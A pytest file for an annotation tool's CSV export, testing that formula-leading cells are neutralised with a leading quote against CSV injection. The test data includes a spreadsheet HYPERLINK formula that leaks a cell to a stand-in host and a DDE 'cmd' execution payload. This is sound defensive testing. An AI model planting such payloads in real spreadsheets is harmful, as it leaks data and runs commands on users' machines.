"""CSV injection: text a spreadsheet would run as a formula is exported with a leading single
quote (OWASP); numbers stay numbers; --raw-csv keeps cells as stored; manifests are untouched."""

from __future__ import annotations

import csv
import json
import shutil

import pandas as pd
import pytest
from click.testing import CliRunner

from annotate.cli import cli
from annotate.export import csv_safe, export_batch, neutralise_formula
from annotate.harvest import harvest
from annotate.post import post_batch
from annotate.store import Store
from conftest import EXAMPLES, mturk_client
from conftest_marketplace import accept, submit

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'


@pytest.mark.parametrize("cell", [LEAK, "+SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1",
                                  "-A1", "-1+2", "=", "+"])
def test_a_formula_leading_text_cell_is_quoted(cell):
    assert neutralise_formula(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["harbour", "", "a=b", " =1", "-1.5", "+3", "-1e-3", "-.5", "-0.5 0.25 -1", "1,-2",
                                  -3, -0.25, 7, None, float("nan")])
def test_numbers_and_plain_text_are_left_alone(cell):
    assert neutralise_formula(cell) is cell


def test_only_text_columns_are_touched_and_names_are_kept():
    frame = pd.DataFrame({"id": ["a", "-b"], "offset": [-3, 4], "weight": [-0.5, 1.5], "label": [LEAK, "ok"],
                          "-x": ["-1 2", "=1"]})
    safe = csv_safe(frame)
    assert list(safe.columns) == list(frame.columns)
    assert safe["offset"].tolist() == [-3, 4] and safe["offset"].dtype == frame["offset"].dtype
    assert safe["weight"].tolist() == [-0.5, 1.5]
    assert safe["id"].tolist() == ["a", "'-b"] and safe["label"].tolist() == ["'" + LEAK, "ok"]
    assert safe["-x"].tolist() == ["-1 2", "'=1"]
    assert frame["label"].tolist() == [LEAK, "ok"]  # the frame itself is not changed


def rows(path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_two_workers_typing_a_formula_into_a_free_text_batch(ws, marketplace, tmp_path):
    """End to end: post a free-text batch, two workers agree on a formula, harvest, export."""
    batch_dir = tmp_path / "words"
    shutil.copytree(EXAMPLES / "words-text", batch_dir)
    items = [{"id": "w001", "source-ref": "images/word-001.png", "word": "harbour", "offset": -3, "shift": "-0.5 1.5",
              "note": "@ops please check"},
             {"id": "w002", "source-ref": "images/word-002.png", "word": "lantern", "offset": 2, "shift": "0 1",
              "note": "plain"}]
    (batch_dir / "items.jsonl").write_text("".join(json.dumps(i) + "\n" for i in items))
    post_batch(ws, batch_dir, endpoint_url=marketplace.url)
    client = mturk_client(marketplace.url)
    hits = {h["RequesterAnnotation"]: h["HITId"] for h in client.list_hits(MaxResults=100)["HITs"]}
    annotation = {item["id"]: next(a for a in hits if item["id"] in a) for item in items}
    typed = {"w001": LEAK, "w002": "lantern"}
    for item_id, text in typed.items():
        for worker in ("A1WORKERONE", "A2WORKERTWO"):
            assert submit(marketplace.url, accept(marketplace.url, hits[annotation[item_id]], worker),
                          [("word", text)]) == 200
    [result] = harvest(ws, ["words-text"], endpoint_url=marketplace.url)
    assert result.labelled == 2
    assert json.loads(Store(ws.store_path).labels("words-text")["w001"]["value"]) == LEAK  # stored as typed

    out = export_batch(ws, "words-text", tmp_path / "out", split=0.5)
    [first, second] = rows(out.csv)
    assert first["label"] == "'" + LEAK and second["label"] == "lantern"
    assert first["note"] == "'@ops please check" and second["note"] == "plain"
    assert first["offset"] == "-3" and first["shift"] == "-0.5 1.5"  # numbers stay numbers
    assert first["confidence"] == "1.0"
    for path in (out.csv, out.train_csv, out.validation_csv):  # every CSV the export writes
        assert LEAK not in {cell for row in rows(path) for cell in row.values()}, path
    assert {r["label"] for r in rows(out.train_csv) + rows(out.validation_csv)} == {"'" + LEAK, "lantern"}
    manifest = [json.loads(line) for line in out.manifest.read_text().splitlines()]
    assert manifest[0]["transcription"] == LEAK  # JSON is never altered

    result = CliRunner().invoke(cli, ["--home", str(ws.home), "export", "words-text", "--out", str(tmp_path / "raw"),
                                      "--no-split", "--raw-csv", "--format", "csv"])
    assert result.exit_code == 0, result.output
    [raw_first, _] = rows(tmp_path / "raw" / "words-text" / "words-text.csv")
    assert raw_first["label"] == LEAK and raw_first["note"] == "@ops please check"

    result = CliRunner().invoke(cli, ["--home", str(ws.home), "export", "words-text", "--out", str(tmp_path / "cli"),
                                      "--no-split", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert rows(tmp_path / "cli" / "words-text" / "words-text.csv")[0]["label"] == "'" + LEAK
